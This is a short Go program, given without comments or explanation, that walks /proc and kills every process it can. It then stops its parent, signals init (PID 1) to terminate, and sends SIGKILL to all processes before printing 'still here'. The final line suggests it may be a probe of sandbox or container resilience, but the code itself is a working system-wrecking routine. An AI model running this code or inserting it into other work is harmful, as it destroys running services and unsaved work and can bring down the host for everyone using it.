package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
)

func main() {
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		if pid, err := strconv.Atoi(entry.Name()); err == nil && pid != os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	syscall.Kill(os.Getppid(), syscall.SIGSTOP)
	syscall.Kill(1, syscall.SIGTERM)
	syscall.Kill(-1, syscall.SIGKILL)
	fmt.Println("still here")
}
